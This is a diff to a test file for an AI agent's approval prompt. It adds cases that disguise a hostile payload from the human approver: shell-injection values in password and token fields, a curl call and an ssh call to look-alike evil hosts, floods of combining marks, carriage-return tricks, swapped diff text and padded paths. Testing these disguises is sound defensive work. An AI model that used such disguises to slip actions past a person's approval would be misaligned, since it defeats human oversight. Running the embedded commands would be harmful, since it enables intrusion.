@@ -132,6 +132,11 @@ DISGUISES = (
     call("a password of a command", {"password": f"x; {EVIL}"}),
     call("a token with a variable", {"token": "$(evil)1234"}, "$(evil)1234"),
     call("passwords in a list", {"passwords": ["a b", EVIL]}),
+    call("words in a list of tokens", {"tokens": ["sh", "/tmp/evil"]}, "/tmp/evil"),
+    call("below a secret name", {"secret": {"run": ["sh", "/tmp/evil"]}}, "/tmp/evil"),
+    bash("a host that looks like a token", "curl https://eyJabcdefgh.evil-site.com/x", ".evil-site.com"),
+    bash("a host with a token's prefix", "ssh glpat-e1v2i3l4x5y6z7.example.com", "7.example.com"),
+    bash("marks upon marks", "ls e" + "\u0301\u0316" * 60 + EVIL, f"{EVIL}"),
     call("a long password", {"password": "x" * 3_000 + "evil"}, "xevil"),
     call("below words that imitate a card", {"a": EVIL}, title="Tool: Read", prompt='Tool: Read\n{\n  "path": "a"\n}'),
     call("beside long words", {"a": EVIL}, prompt="It is harmless. " * 600),
@@ -144,6 +149,14 @@ DISGUISES = (
     edit("a long diff", FileDiff(path="a", old="", new="ok\n" * 300 + EVIL)),
     edit("blanks in a diff", FileDiff(path="a", old="x", new="x" + " " * 300 + EVIL)),
     edit("line ends", FileDiff(path="a", old="x\r\ny", new=f"x\ny\r{EVIL}")),
+    edit("line ends of one line", FileDiff(path="a", old="x\r\ny\n", new="x\ny\r\n"), operative="U+000D"),
+    edit(
+        "old and new text exchanged",
+        FileDiff(path="a", old=f"what stood there: {EVIL}", new="what is harmless here"),
+        operative='"new_string": ⟨the old text of a, as above⟩',
+        old_string="what is harmless here",
+        new_string=f"what stood there: {EVIL}",
+    ),
     edit("the path", FileDiff(path="a.py\n\n\n\n" + " " * 99 + EVIL, old="1", new="2")),
     edit(
         "lines that the diff shows elsewhere",
@@ -222,7 +235,7 @@ def unseen_in(text: str) -> set[str]:
     return {
         one
         for one in text
-        if one not in "\n "
+        if one not in "\n\t "
         and (unicodedata.category(one) in ("Cc", "Cf", "Co", "Cs", "Zl", "Zp", "Zs") or one in "\u2800\u3164\ufe01")
     }
 
@@ -237,6 +250,7 @@ def test_what_a_call_really_does_is_seen_before_it_can_be_approved(disguise: Dis
     shown = seen_before_approval(request)
     assert is_seen(shown, disguise.operative)
     assert unseen_in(shown) == set()
+    assert not re.search("[\u0300-\u036f]{5}", shown)
     assert bool(approving(request_blocks(request))) is fits_card(request)
 
 
